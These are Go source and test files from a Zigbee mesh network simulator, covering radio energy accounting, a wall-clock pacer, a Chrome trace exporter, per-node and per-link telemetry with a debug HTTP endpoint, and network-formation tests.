func (p EnergyProfile) Microjoules(dur [NumRadioStates]time.Duration) float64 {
	var uj float64
	for s, d := range dur {
		// V * mA = mW; mW * s = mJ; * 1000 = µJ.
		uj += p.VoltageV * p.CurrentMA[s] * d.Seconds() * 1000
	}
	return uj
}

// radioAccount is one node's radio state machine in virtual time. State
// only changes at MAC events (transition/charge below), so the account
// is independent of how Run calls batch the event loop — the property
// that keeps trace output and energy totals byte-identical across
// RunUntil splits.
type radioAccount struct {
	state RadioState
	// since is the virtual instant the current state was entered.
	since time.Duration
	dur   [NumRadioStates]time.Duration
}

// durations returns the state durations as of now, including the time
// accrued in the current state, without mutating the account — snapshot
// reads must not disturb the event-time anchors.
func (a *radioAccount) durations(now time.Duration) [NumRadioStates]time.Duration {
	d := a.dur
	if now > a.since {
		d[a.state] += now - a.since
	}
	return d
}

// transition charges [since, now) to the current state and enters s. It
// returns the completed interval so the caller can emit a trace slice.
func (a *radioAccount) transition(now time.Duration, s RadioState) (RadioState, time.Duration, time.Duration) {
	prev, start := a.state, a.since
	if d := now - a.since; d > 0 {
		a.dur[prev] += d
	}
	a.state = s
	a.since = now
	return prev, start, now - start
}

// charge retroactively re-attributes the trailing span of the interval
// ending now to state s — how instantaneous simulator events (a CCA
// decision, a frame delivery) account for the receiver-on window that
// physically preceded them. The remainder of the interval stays with the
// current state; the current state itself is unchanged. Both returned
// durations can be zero; charged is clamped so the account still sums
// exactly to elapsed virtual time.
func (a *radioAccount) charge(now, span time.Duration, s RadioState) (rest, charged time.Duration) {
	elapsed := now - a.since
	if elapsed < 0 {
		elapsed = 0
	}
	charged = span
	if charged > elapsed {
		charged = elapsed
	}
	rest = elapsed - charged
	if rest > 0 {
		a.dur[a.state] += rest
	}
	if charged > 0 {
		a.dur[s] += charged
	}
	a.since = now
	return rest, charged
}
