package sim

import "time"

// Pacer drives a Scheduler in wall time: each pending event's virtual
// timestamp is mapped onto a wall deadline and executed when the wall
// clock reaches it. This is the whole difference between the batch
// simulator and a live network — the event core is identical, the pacer
// only decides *when* to call Step. Lag (the wall clock overshooting an
// event's deadline) is recorded as the scheduler's high-water mark and
// reported through OnLag.
type Pacer struct {
	// Sched is the event queue to drive.
	Sched *Scheduler
	// Clock supplies wall time; nil uses the system clock.
	Clock WallClock
	// OnLag, when set, observes each new lag high-water mark (how far
	// behind its wall deadline an event executed).
	OnLag func(lag time.Duration)
}

// Run paces the scheduler against the wall clock until the queue drains
// or stop closes. The virtual origin is anchored at the first call: an
// event at virtual t executes no earlier than start + (t - virtualNow).
// Events enqueued while running (the recurring chains of a live
// network) extend the run seamlessly.
func (p *Pacer) Run(stop <-chan struct{}) {
	clock := p.Clock
	if clock == nil {
		clock = SystemClock()
	}
	start := clock.Now()
	v0 := p.Sched.Now()
	for {
		at, ok := p.Sched.NextAt()
		if !ok {
			return
		}
		deadline := start.Add(at - v0)
		if wait := deadline.Sub(clock.Now()); wait > 0 {
			select {
			case <-stop:
				return
			case <-clock.After(wait):
			}
		} else {
			// Late already: still honour stop between events so a
			// backlogged pacer remains interruptible.
			select {
			case <-stop:
				return
			default:
			}
		}
		p.Sched.Step()
		if lag := clock.Now().Sub(deadline); lag > 0 && p.Sched.noteLag(lag) && p.OnLag != nil {
			p.OnLag(lag)
		}
	}
}
