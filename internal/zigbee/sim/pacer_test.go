package sim

import (
	"testing"
	"time"
)

func TestManualClockAdvanceFiresTimers(t *testing.T) {
	c := NewManualClock()
	ch := c.After(10 * time.Millisecond)
	select {
	case <-ch:
		t.Fatal("timer fired before Advance")
	default:
	}
	c.Advance(5 * time.Millisecond)
	select {
	case <-ch:
		t.Fatal("timer fired early")
	default:
	}
	c.Advance(5 * time.Millisecond)
	select {
	case <-ch:
	default:
		t.Fatal("timer did not fire at its deadline")
	}
	// Non-positive delays fire immediately.
	select {
	case <-c.After(0):
	default:
		t.Fatal("After(0) did not fire immediately")
	}
}

// TestPacerMapsVirtualToWall drives a pacer with a manual clock: events
// execute exactly when the wall clock crosses their mapped deadlines,
// with no sleeps anywhere in the test.
func TestPacerMapsVirtualToWall(t *testing.T) {
	sched := NewScheduler()
	clock := NewManualClock()
	fired := make(chan time.Duration, 16)
	var chain func()
	chain = func() {
		fired <- sched.Now()
		if sched.Now() < 30*time.Millisecond {
			sched.After(10*time.Millisecond, chain)
		}
	}
	sched.After(10*time.Millisecond, chain)

	stop := make(chan struct{})
	done := make(chan struct{})
	p := &Pacer{Sched: sched, Clock: clock}
	go func() {
		p.Run(stop)
		close(done)
	}()

	for i, want := range []time.Duration{10, 20, 30} {
		clock.AwaitTimers(i + 1) // pacer armed its next deadline
		clock.Advance(10 * time.Millisecond)
		got := <-fired
		if got != want*time.Millisecond {
			t.Fatalf("event %d fired at virtual %v, want %v", i, got, want*time.Millisecond)
		}
	}
	<-done // queue drained after the last event
}

func TestPacerStops(t *testing.T) {
	sched := NewScheduler()
	sched.After(time.Hour, func() { t.Error("event fired despite stop") })
	clock := NewManualClock()
	stop := make(chan struct{})
	done := make(chan struct{})
	p := &Pacer{Sched: sched, Clock: clock}
	go func() {
		p.Run(stop)
		close(done)
	}()
	clock.AwaitTimers(1)
	close(stop)
	select {
	case <-done:
	case <-time.After(5 * time.Second):
		t.Fatal("pacer did not stop")
	}
}

func TestPacerReportsLag(t *testing.T) {
	sched := NewScheduler()
	sched.After(10*time.Millisecond, func() {})
	clock := NewManualClock()
	var lags []time.Duration
	p := &Pacer{Sched: sched, Clock: clock, OnLag: func(l time.Duration) { lags = append(lags, l) }}
	done := make(chan struct{})
	go func() {
		p.Run(nil)
		close(done)
	}()
	clock.AwaitTimers(1)
	clock.Advance(50 * time.Millisecond) // overshoot the deadline by 40ms
	<-done
	if len(lags) == 0 {
		t.Fatal("no lag reported for a late event")
	}
	if lags[0] != 40*time.Millisecond {
		t.Fatalf("lag = %v, want 40ms", lags[0])
	}
	if sched.MaxLag() != 40*time.Millisecond {
		t.Fatalf("MaxLag = %v, want 40ms", sched.MaxLag())
	}
}

func TestPacerRunsBacklogImmediately(t *testing.T) {
	// Events already due when Run starts execute without waiting.
	sched := NewScheduler()
	ran := 0
	for i := 0; i < 3; i++ {
		sched.After(0, func() { ran++ })
	}
	p := &Pacer{Sched: sched, Clock: NewManualClock()}
	p.Run(nil)
	if ran != 3 {
		t.Fatalf("ran = %d, want 3", ran)
	}
}
