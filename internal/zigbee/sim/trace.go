package sim

import (
	"bufio"
	"io"
	"strconv"
	"time"
)

// The virtual-time trace exporter emits Chrome trace-event JSON (the
// format ui.perfetto.dev and chrome://tracing load natively): two tracks
// per node — a MAC track of frame slices with collision/erasure/deaf
// markers, and a radio track of state slices from the energy
// accountant's state machine. Events stream through a bounded buffer as
// the event loop produces them, so thousand-node minute-long runs never
// hold the trace in memory; timestamps are formatted with pure integer
// arithmetic, so two same-seed runs produce byte-identical files — the
// trace is itself a determinism oracle.

// trace track layout: process 1, two threads per node.
const tracePID = 1

// macTID is the node's MAC track (frame slices and markers).
func macTID(node int) int { return 2 * node }

// radioTID is the node's radio track (state-machine slices).
func radioTID(node int) int { return 2*node + 1 }

// traceWriter streams trace events. All methods are called from the
// event loop only; errors are sticky and surfaced by Close.
type traceWriter struct {
	bw  *bufio.Writer
	buf []byte // per-event scratch, reused
	n   uint64 // events written
	err error
}

// newTraceWriter wraps w and writes the trace prelude plus the
// process/thread metadata naming every node's tracks.
func newTraceWriter(w io.Writer, topo Topology) *traceWriter {
	tw := &traceWriter{bw: bufio.NewWriterSize(w, 1<<16)}
	tw.writeString(`{"displayTimeUnit":"ms","traceEvents":[`)
	tw.meta("process_name", tracePID, -1, "wazabee mesh simulator")
	for i, spec := range topo.Nodes {
		name := "node " + strconv.Itoa(i) + " " + spec.Role.String()
		tw.meta("thread_name", tracePID, macTID(i), name)
		tw.meta("thread_name", tracePID, radioTID(i), name+" radio")
	}
	return tw
}

// writeString appends raw bytes, keeping the first error.
func (tw *traceWriter) writeString(s string) {
	if tw.err != nil {
		return
	}
	_, tw.err = tw.bw.WriteString(s)
}

// flushEvent terminates one event line built in tw.buf.
func (tw *traceWriter) flushEvent() {
	if tw.err != nil {
		return
	}
	_, tw.err = tw.bw.Write(tw.buf)
	tw.n++
}

// open starts one event object: the separating comma (every event —
// including the first — follows the metadata written by the
// constructor), newline, and the shared name/phase/pid/tid preamble.
func (tw *traceWriter) open(name string, ph byte, tid int) {
	b := tw.buf[:0]
	b = append(b, ",\n{\"name\":\""...)
	b = append(b, name...) // names are simulator-chosen ASCII, no escaping needed
	b = append(b, "\",\"ph\":\""...)
	b = append(b, ph)
	b = append(b, "\",\"pid\":"...)
	b = strconv.AppendInt(b, tracePID, 10)
	b = append(b, ",\"tid\":"...)
	b = strconv.AppendInt(b, int64(tid), 10)
	tw.buf = b
}

// appendMicros renders a virtual instant/duration as microseconds with
// a fixed three-digit nanosecond fraction — integer arithmetic only, so
// formatting is byte-stable across runs and platforms.
func appendMicros(b []byte, d time.Duration) []byte {
	ns := int64(d)
	b = strconv.AppendInt(b, ns/1000, 10)
	frac := ns % 1000
	b = append(b, '.')
	b = append(b, byte('0'+frac/100), byte('0'+(frac/10)%10), byte('0'+frac%10))
	return b
}

// meta writes one metadata event ("M" phase). A negative tid omits the
// field (process-level metadata).
func (tw *traceWriter) meta(name string, pid, tid int, value string) {
	if tw.err != nil {
		return
	}
	b := tw.buf[:0]
	if tw.n > 0 || name != "process_name" {
		b = append(b, ",\n"...)
	} else {
		b = append(b, '\n')
	}
	b = append(b, "{\"name\":\""...)
	b = append(b, name...)
	b = append(b, "\",\"ph\":\"M\",\"pid\":"...)
	b = strconv.AppendInt(b, int64(pid), 10)
	if tid >= 0 {
		b = append(b, ",\"tid\":"...)
		b = strconv.AppendInt(b, int64(tid), 10)
	}
	b = append(b, ",\"args\":{\"name\":\""...)
	b = append(b, value...)
	b = append(b, "\"}}"...)
	tw.buf = b
	tw.flushEvent()
}

// frameSlice records one transmission on the sender's MAC track: a
// complete ("X") slice spanning the frame's airtime, tagged with the
// global capture sequence and PSDU size.
func (tw *traceWriter) frameSlice(node int, kind string, start, dur time.Duration, seq uint64, psduLen int) {
	if tw.err != nil {
		return
	}
	tw.open(kind, 'X', macTID(node))
	b := tw.buf
	b = append(b, ",\"ts\":"...)
	b = appendMicros(b, start)
	b = append(b, ",\"dur\":"...)
	b = appendMicros(b, dur)
	b = append(b, ",\"args\":{\"seq\":"...)
	b = strconv.AppendUint(b, seq, 10)
	b = append(b, ",\"bytes\":"...)
	b = strconv.AppendInt(b, int64(psduLen), 10)
	b = append(b, "}}"...)
	tw.buf = b
	tw.flushEvent()
}

// stateSlice records one completed radio state interval on the node's
// radio track. Idle intervals are skipped by the callers — they carry no
// information beyond the gaps between slices and would dominate the file.
func (tw *traceWriter) stateSlice(node int, state RadioState, start, dur time.Duration) {
	if tw.err != nil || dur <= 0 || state == RadioIdle {
		return
	}
	tw.open(state.String(), 'X', radioTID(node))
	b := tw.buf
	b = append(b, ",\"ts\":"...)
	b = appendMicros(b, start)
	b = append(b, ",\"dur\":"...)
	b = appendMicros(b, dur)
	b = append(b, '}')
	tw.buf = b
	tw.flushEvent()
}

// instant records a point marker ("i" phase, thread scope): collisions
// on the sender's MAC track, erasures and deaf misses on the receiver's.
func (tw *traceWriter) instant(node int, name string, at time.Duration, seq uint64) {
	if tw.err != nil {
		return
	}
	tw.open(name, 'i', macTID(node))
	b := tw.buf
	b = append(b, ",\"ts\":"...)
	b = appendMicros(b, at)
	b = append(b, ",\"s\":\"t\",\"args\":{\"seq\":"...)
	b = strconv.AppendUint(b, seq, 10)
	b = append(b, "}}"...)
	tw.buf = b
	tw.flushEvent()
}

// Close terminates the JSON document and flushes the buffer. It returns
// the first error encountered anywhere in the stream.
func (tw *traceWriter) Close() error {
	tw.writeString("\n]}\n")
	if err := tw.bw.Flush(); tw.err == nil {
		tw.err = err
	}
	return tw.err
}
