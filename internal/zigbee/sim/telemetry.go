package sim

import (
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"sort"
	"strconv"
	"time"

	"wazabee/internal/obs"
)

// The simulation observatory: per-node and per-link accounting behind
// the network-global wazabee_sim_* counters, so a campaign can tell
// *which* node is starving, *which* link is erasing frames, and how much
// energy each radio drained. All accumulation happens on the event loop
// in plain (non-atomic) fields — the loop is single-threaded by design —
// and is purely observational: no random draws, no scheduling, so an
// instrumented run produces the byte-identical capture sequence of an
// uninstrumented one. Registry series (wazabee_simnode_*,
// wazabee_simlink_*, wazabee_sim_energy_microjoules) are pre-resolved at
// construction and updated by delta at batch boundaries, keeping
// registry lookups out of the hot path.

// nodeTel is one node's private counter block.
type nodeTel struct {
	tx, rx                                                  uint64
	collisions, backoffs, ccaFailures, retries, ackFailures uint64
	erasures, deaf                                          uint64
	readings, forwarded                                     uint64
	joins, parentChanges                                    uint64
	joinedAt                                                time.Duration // first association; -1 until joined
	lastParent                                              int           // parent at last join; -1 before
}

// linkTel is one directed (tx → rx) link's counter block.
type linkTel struct {
	tx, rx                           int
	delivered, erasures, deaf, colls uint64
	published                        [4]uint64       // registry deltas already emitted
	ctrs                             [4]*obs.Counter // lazily resolved
}

// linkKey packs a directed node pair into a map key.
func linkKey(tx, rx int) uint64 { return uint64(uint32(tx))<<32 | uint64(uint32(rx)) }

// nodeFamilies maps each per-node counter family to its field — the
// single table the publisher, the reconciliation test and the metric
// catalogue share.
var nodeFamilies = []struct {
	name string
	get  func(*nodeTel) uint64
}{
	{"wazabee_simnode_tx_frames_total", func(n *nodeTel) uint64 { return n.tx }},
	{"wazabee_simnode_rx_frames_total", func(n *nodeTel) uint64 { return n.rx }},
	{"wazabee_simnode_collisions_total", func(n *nodeTel) uint64 { return n.collisions }},
	{"wazabee_simnode_backoffs_total", func(n *nodeTel) uint64 { return n.backoffs }},
	{"wazabee_simnode_cca_failures_total", func(n *nodeTel) uint64 { return n.ccaFailures }},
	{"wazabee_simnode_retries_total", func(n *nodeTel) uint64 { return n.retries }},
	{"wazabee_simnode_ack_failures_total", func(n *nodeTel) uint64 { return n.ackFailures }},
	{"wazabee_simnode_erasures_total", func(n *nodeTel) uint64 { return n.erasures }},
	{"wazabee_simnode_deaf_misses_total", func(n *nodeTel) uint64 { return n.deaf }},
	{"wazabee_simnode_joins_total", func(n *nodeTel) uint64 { return n.joins }},
	{"wazabee_simnode_parent_changes_total", func(n *nodeTel) uint64 { return n.parentChanges }},
}

// linkFamilies names the per-link families in linkTel field order.
var linkFamilies = [4]string{
	"wazabee_simlink_delivered_total",
	"wazabee_simlink_erasures_total",
	"wazabee_simlink_deaf_misses_total",
	"wazabee_simlink_collisions_total",
}

// telemetry is the observatory's event-loop-side state.
type telemetry struct {
	nodes   []nodeTel
	links   map[uint64]*linkTel
	energy  []radioAccount
	profile EnergyProfile
	trace   *traceWriter

	reg      *obs.Registry
	nodeCtrs [][]*obs.Counter // [node][family], resolved on first nonzero delta
	nodePub  []nodeTel        // counter values already pushed to the registry
	gEnergy  []*obs.Gauge     // per-node energy gauges, pre-resolved
	gRadio   [NumRadioStates]*obs.Gauge
	hJoin    *obs.Histogram
}

// newTelemetry builds the observatory for a topology. Counter series
// resolve lazily at publish time (most nodes never collide or retry, so
// eagerly registering nodes × families series would mostly allocate
// zeros); only the always-set energy gauges are resolved up front.
func newTelemetry(topo Topology, profile EnergyProfile, reg *obs.Registry, trace *traceWriter) *telemetry {
	n := len(topo.Nodes)
	t := &telemetry{
		nodes:    make([]nodeTel, n),
		links:    make(map[uint64]*linkTel),
		energy:   make([]radioAccount, n),
		profile:  profile,
		trace:    trace,
		reg:      reg,
		nodeCtrs: make([][]*obs.Counter, n),
		nodePub:  make([]nodeTel, n),
		gEnergy:  make([]*obs.Gauge, n),
		hJoin:    reg.Histogram("wazabee_sim_join_latency_seconds", obs.DurationBuckets),
	}
	for i := range t.nodes {
		t.nodes[i].joinedAt = -1
		t.nodes[i].lastParent = -1
		t.gEnergy[i] = reg.Gauge("wazabee_sim_energy_microjoules", "node", strconv.Itoa(i))
	}
	for s := 0; s < NumRadioStates; s++ {
		t.gRadio[s] = reg.Gauge("wazabee_sim_radio_seconds", "state", RadioState(s).String())
	}
	return t
}

// link returns (creating if needed) the counter block of one directed
// link.
func (t *telemetry) link(tx, rx int) *linkTel {
	key := linkKey(tx, rx)
	l := t.links[key]
	if l == nil {
		l = &linkTel{tx: tx, rx: rx}
		t.links[key] = l
	}
	return l
}

// noteJoin records one association on the joiner's telemetry: first-join
// latency, parent-change tracking and the join-latency histogram.
func (t *telemetry) noteJoin(n *node, now time.Duration) {
	nt := &t.nodes[n.id]
	nt.joins++
	if nt.joinedAt < 0 {
		nt.joinedAt = now
	}
	if nt.lastParent >= 0 && nt.lastParent != n.parentID {
		nt.parentChanges++
	}
	nt.lastParent = n.parentID
	t.hJoin.Observe(obs.DurationSeconds(now))
}

// radioTransition moves a node's radio into state s at now, emitting the
// completed interval to the trace.
func (t *telemetry) radioTransition(id int, now time.Duration, s RadioState) {
	prev, start, d := t.energy[id].transition(now, s)
	if t.trace != nil && prev != RadioIdle {
		t.trace.stateSlice(id, prev, start, d)
	}
}

// radioCharge re-attributes the trailing span before now to state s (a
// CCA window, a received frame) and emits both resulting intervals.
func (t *telemetry) radioCharge(id int, now, span time.Duration, s RadioState) {
	a := &t.energy[id]
	prev, start := a.state, a.since
	rest, charged := a.charge(now, span, s)
	if t.trace != nil {
		if prev != RadioIdle {
			t.trace.stateSlice(id, prev, start, rest)
		}
		t.trace.stateSlice(id, s, now-charged, charged)
	}
}

// publish pushes counter deltas and energy gauges into the registry —
// called at batch boundaries, never per event. Registry order of link
// series follows map iteration; the values are deltas of deterministic
// totals, so the resulting registry state is batch-order independent.
func (t *telemetry) publish(now time.Duration) {
	var radioTotal [NumRadioStates]time.Duration
	for i := range t.nodes {
		cur, last := &t.nodes[i], &t.nodePub[i]
		for fi, fam := range nodeFamilies {
			if d := fam.get(cur) - fam.get(last); d > 0 {
				if t.nodeCtrs[i] == nil {
					t.nodeCtrs[i] = make([]*obs.Counter, len(nodeFamilies))
				}
				if t.nodeCtrs[i][fi] == nil {
					t.nodeCtrs[i][fi] = t.reg.Counter(fam.name, "node", strconv.Itoa(i))
				}
				t.nodeCtrs[i][fi].Add(d)
			}
		}
		*last = *cur
		dur := t.energy[i].durations(now)
		for s, d := range dur {
			radioTotal[s] += d
		}
		t.gEnergy[i].Set(t.profile.Microjoules(dur))
	}
	for s, d := range radioTotal {
		t.gRadio[s].Set(obs.DurationSeconds(d))
	}
	for _, l := range t.links {
		vals := [4]uint64{l.delivered, l.erasures, l.deaf, l.colls}
		for fi, v := range vals {
			if d := v - l.published[fi]; d > 0 {
				if l.ctrs[fi] == nil {
					l.ctrs[fi] = t.reg.Counter(linkFamilies[fi],
						"tx", strconv.Itoa(l.tx), "rx", strconv.Itoa(l.rx))
				}
				l.ctrs[fi].Add(d)
			}
		}
		l.published = vals
	}
}

// ---------------------------------------------------------------------
// Snapshot surface

// NodeStats is one node's observatory snapshot: identity, association
// outcome, MAC counters, radio-state durations and the integrated energy
// total.
type NodeStats struct {
	ID     int    `json:"id"`
	Role   string `json:"role"`
	Joined bool   `json:"joined"`
	Parent int    `json:"parent"`
	Short  uint16 `json:"short"`

	// JoinLatency is the virtual time of the node's first successful
	// association, -1 when it never joined. Coordinators join at 0.
	JoinLatency   time.Duration `json:"join_latency_ns"`
	Joins         uint64        `json:"joins"`
	ParentChanges uint64        `json:"parent_changes"`

	Tx          uint64 `json:"tx"`
	Rx          uint64 `json:"rx"`
	Collisions  uint64 `json:"collisions"`
	Backoffs    uint64 `json:"backoffs"`
	CCAFailures uint64 `json:"cca_failures"`
	Retries     uint64 `json:"retries"`
	AckFailures uint64 `json:"ack_failures"`
	Erasures    uint64 `json:"erasures"`
	DeafMisses  uint64 `json:"deaf_misses"`
	Readings    uint64 `json:"readings"`
	Forwarded   uint64 `json:"forwarded"`

	// RadioTime is the virtual time spent in each radio state, indexed
	// by RadioState; the entries always sum to the snapshot's virtual
	// elapsed time (the conservation invariant).
	RadioTime         [NumRadioStates]time.Duration `json:"radio_ns"`
	EnergyMicrojoules float64                       `json:"energy_microjoules"`
}

// LinkStats is one directed (tx → rx) link's delivery record.
type LinkStats struct {
	Tx         int    `json:"tx"`
	Rx         int    `json:"rx"`
	Delivered  uint64 `json:"delivered"`
	Erasures   uint64 `json:"erasures"`
	DeafMisses uint64 `json:"deaf_misses"`
	Collisions uint64 `json:"collisions"`
}

// Snapshot is the observatory's full state at one virtual instant — what
// /debug/sim serves and the campaign engine scores.
type Snapshot struct {
	VirtualTime       time.Duration      `json:"virtual_ns"`
	Stats             Stats              `json:"stats"`
	Chip              string             `json:"chip,omitempty"`
	EnergyMicrojoules float64            `json:"energy_microjoules"`
	RadioSeconds      map[string]float64 `json:"radio_seconds,omitempty"`
	Nodes             []NodeStats        `json:"nodes,omitempty"`
	Links             []LinkStats        `json:"links,omitempty"`
}

// nodeStats builds one node's snapshot row.
func (nw *Network) nodeStats(i int, now time.Duration) NodeStats {
	n := nw.nodes[i]
	nt := &nw.tel.nodes[i]
	dur := nw.tel.energy[i].durations(now)
	return NodeStats{
		ID: i, Role: n.spec.Role.String(), Joined: n.state == stateJoined,
		Parent: n.parentID, Short: n.short,
		JoinLatency: nt.joinedAt, Joins: nt.joins, ParentChanges: nt.parentChanges,
		Tx: nt.tx, Rx: nt.rx,
		Collisions: nt.collisions, Backoffs: nt.backoffs,
		CCAFailures: nt.ccaFailures, Retries: nt.retries, AckFailures: nt.ackFailures,
		Erasures: nt.erasures, DeafMisses: nt.deaf,
		Readings: nt.readings, Forwarded: nt.forwarded,
		RadioTime:         dur,
		EnergyMicrojoules: nw.tel.profile.Microjoules(dur),
	}
}

// NodeStats snapshots every node's telemetry. Call between Run
// invocations (like Stats); nil when telemetry is disabled.
func (nw *Network) NodeStats() []NodeStats {
	if nw.tel == nil {
		return nil
	}
	now := nw.sched.Now()
	out := make([]NodeStats, len(nw.nodes))
	for i := range nw.nodes {
		out[i] = nw.nodeStats(i, now)
	}
	return out
}

// LinkStats snapshots every directed link's telemetry, sorted by
// (tx, rx); nil when telemetry is disabled.
func (nw *Network) LinkStats() []LinkStats {
	if nw.tel == nil {
		return nil
	}
	out := make([]LinkStats, 0, len(nw.tel.links))
	for _, l := range nw.tel.links {
		out = append(out, LinkStats{
			Tx: l.tx, Rx: l.rx,
			Delivered: l.delivered, Erasures: l.erasures,
			DeafMisses: l.deaf, Collisions: l.colls,
		})
	}
	sort.Slice(out, func(i, j int) bool {
		if out[i].Tx != out[j].Tx {
			return out[i].Tx < out[j].Tx
		}
		return out[i].Rx < out[j].Rx
	})
	return out
}

// Snapshot assembles the full observatory snapshot. Call between Run
// invocations; with telemetry disabled it carries the global Stats only.
func (nw *Network) Snapshot() *Snapshot {
	snap := &Snapshot{
		VirtualTime: nw.sched.Now(),
		Stats:       nw.Stats(),
	}
	if nw.tel == nil {
		return snap
	}
	now := snap.VirtualTime
	snap.Chip = nw.tel.profile.Name
	snap.Nodes = make([]NodeStats, len(nw.nodes))
	snap.RadioSeconds = make(map[string]float64, NumRadioStates)
	var radioTotal [NumRadioStates]time.Duration
	for i := range nw.nodes {
		ns := nw.nodeStats(i, now)
		snap.Nodes[i] = ns
		snap.EnergyMicrojoules += ns.EnergyMicrojoules
		for s, d := range ns.RadioTime {
			radioTotal[s] += d
		}
	}
	for s, d := range radioTotal {
		snap.RadioSeconds[RadioState(s).String()] = obs.DurationSeconds(d)
	}
	snap.Links = nw.LinkStats()
	return snap
}

// ---------------------------------------------------------------------
// /debug/sim handler

// DebugHandler returns the /debug/sim endpoint: the observatory snapshot
// as JSON (default) or a text table (?format=text), a single node's row
// (?node=N), or the top-K nodes by a sort key (?top=K&sort=energy|tx|
// collisions|erasures). The handler serves the snapshot published at the
// last batch boundary, so it is safe to hit from any goroutine while the
// event loop runs.
func (nw *Network) DebugHandler() http.Handler {
	nw.wantSnapshot.Store(true)
	nw.snap.Store(nw.Snapshot()) // pre-run state, refreshed every afterBatch
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		snap := nw.snap.Load()
		if snap == nil {
			http.Error(w, "no snapshot yet", http.StatusServiceUnavailable)
			return
		}
		if idStr := r.URL.Query().Get("node"); idStr != "" {
			id, err := strconv.Atoi(idStr)
			if err != nil || id < 0 || id >= len(snap.Nodes) {
				http.Error(w, fmt.Sprintf("node %q out of range [0,%d)", idStr, len(snap.Nodes)), http.StatusBadRequest)
				return
			}
			w.Header().Set("Content-Type", "application/json")
			enc := json.NewEncoder(w)
			enc.SetIndent("", "  ")
			enc.Encode(snap.Nodes[id])
			return
		}
		view := *snap
		if topStr := r.URL.Query().Get("top"); topStr != "" && len(view.Nodes) > 0 {
			top, err := strconv.Atoi(topStr)
			if err != nil || top < 1 {
				http.Error(w, fmt.Sprintf("bad top %q", topStr), http.StatusBadRequest)
				return
			}
			view.Nodes = topNodes(view.Nodes, top, r.URL.Query().Get("sort"))
		}
		if r.URL.Query().Get("format") == "text" {
			w.Header().Set("Content-Type", "text/plain; charset=utf-8")
			WriteSnapshotText(w, &view)
			return
		}
		w.Header().Set("Content-Type", "application/json")
		enc := json.NewEncoder(w)
		enc.SetIndent("", "  ")
		enc.Encode(&view)
	})
}

// TopNodesByEnergy returns the k highest-energy nodes, leaving the
// input untouched — the CLI's -node-report selection.
func TopNodesByEnergy(nodes []NodeStats, k int) []NodeStats {
	return topNodes(nodes, k, "energy")
}

// topNodes returns the k highest nodes under the named sort key
// (default energy), leaving the input untouched.
func topNodes(nodes []NodeStats, k int, key string) []NodeStats {
	sorted := append([]NodeStats(nil), nodes...)
	val := func(n *NodeStats) float64 { return n.EnergyMicrojoules }
	switch key {
	case "tx":
		val = func(n *NodeStats) float64 { return float64(n.Tx) }
	case "collisions":
		val = func(n *NodeStats) float64 { return float64(n.Collisions) }
	case "erasures":
		val = func(n *NodeStats) float64 { return float64(n.Erasures) }
	}
	sort.SliceStable(sorted, func(i, j int) bool { return val(&sorted[i]) > val(&sorted[j]) })
	if k < len(sorted) {
		sorted = sorted[:k]
	}
	return sorted
}

// WriteSnapshotText renders the snapshot as the human-readable table the
// CLI's -node-report flag and ?format=text share.
func WriteSnapshotText(w io.Writer, snap *Snapshot) {
	fmt.Fprintf(w, "sim observatory @ %v: %d nodes, %d joined, %d frames, %.1f µJ total (%s)\n",
		snap.VirtualTime, snap.Stats.Nodes, snap.Stats.Joined, snap.Stats.Frames,
		snap.EnergyMicrojoules, snap.Chip)
	if len(snap.Nodes) == 0 {
		fmt.Fprintln(w, "per-node telemetry disabled (sim.Config.Telemetry)")
		return
	}
	fmt.Fprintf(w, "%6s %-12s %6s %8s %8s %6s %6s %6s %6s %6s %10s %12s\n",
		"node", "role", "joined", "tx", "rx", "coll", "cca!", "retry", "eras", "deaf", "join_ms", "energy_uJ")
	for _, n := range snap.Nodes {
		join := "-"
		if n.JoinLatency >= 0 {
			join = strconv.FormatFloat(float64(n.JoinLatency)/1e6, 'f', 1, 64)
		}
		fmt.Fprintf(w, "%6d %-12s %6v %8d %8d %6d %6d %6d %6d %6d %10s %12.1f\n",
			n.ID, n.Role, n.Joined, n.Tx, n.Rx, n.Collisions, n.CCAFailures,
			n.Retries, n.Erasures, n.DeafMisses, join, n.EnergyMicrojoules)
	}
}

// ---------------------------------------------------------------------
// Scheduler heap gauges

// HeapGauges exports a Scheduler's high-water marks as
// wazabee_sim_heap_* gauges. The driver label separates the virtual
// batch driver from the wall-clock pacer when both run in one process.
type HeapGauges struct {
	maxDepth, pending, executed, maxLag *obs.Gauge
}

// NewHeapGauges pre-resolves the gauge series on reg (nil falls back to
// the process default registry).
func NewHeapGauges(reg *obs.Registry, driver string) *HeapGauges {
	r := obs.Or(reg)
	return &HeapGauges{
		maxDepth: r.Gauge("wazabee_sim_heap_max_depth", "driver", driver),
		pending:  r.Gauge("wazabee_sim_heap_pending", "driver", driver),
		executed: r.Gauge("wazabee_sim_heap_executed", "driver", driver),
		maxLag:   r.Gauge("wazabee_sim_heap_max_lag_seconds", "driver", driver),
	}
}

// Publish refreshes the gauges from the scheduler's current marks. Call
// it from the goroutine driving the scheduler.
func (g *HeapGauges) Publish(s *Scheduler) {
	g.maxDepth.Set(float64(s.MaxDepth()))
	g.pending.Set(float64(s.Len()))
	g.executed.Set(float64(s.Executed()))
	g.maxLag.Set(obs.DurationSeconds(s.MaxLag()))
}
