package sim

import (
	"strings"
	"testing"
	"time"

	"wazabee/internal/obs"
)

func TestStarNetworkForms(t *testing.T) {
	nw, err := New(Star(20), Config{Seed: 42})
	if err != nil {
		t.Fatal(err)
	}
	nw.Run(30 * time.Second)
	s := nw.Stats()
	if s.Joined != 21 {
		t.Fatalf("joined = %d, want 21", s.Joined)
	}
	if s.Readings == 0 {
		t.Fatal("coordinator accepted no readings")
	}
	if s.Beacons == 0 || s.Acks == 0 {
		t.Fatalf("beacons = %d acks = %d, want both > 0", s.Beacons, s.Acks)
	}
	// Short addresses are unique across the PAN.
	seen := map[uint16]int{}
	for i := 0; i < 21; i++ {
		info := nw.Node(i)
		if !info.Joined {
			t.Fatalf("node %d not joined", i)
		}
		if prev, dup := seen[info.Short]; dup {
			t.Fatalf("nodes %d and %d share short address %#04x", prev, i, info.Short)
		}
		seen[info.Short] = i
	}
	if nw.Node(0).Short != 0x0000 {
		t.Fatalf("coordinator short = %#04x, want 0x0000", nw.Node(0).Short)
	}
}

func TestTreeNetworkForwardsThroughRouters(t *testing.T) {
	nw, err := New(Tree(2, 4), Config{Seed: 3})
	if err != nil {
		t.Fatal(err)
	}
	nw.Run(40 * time.Second)
	s := nw.Stats()
	if s.Joined != s.Nodes {
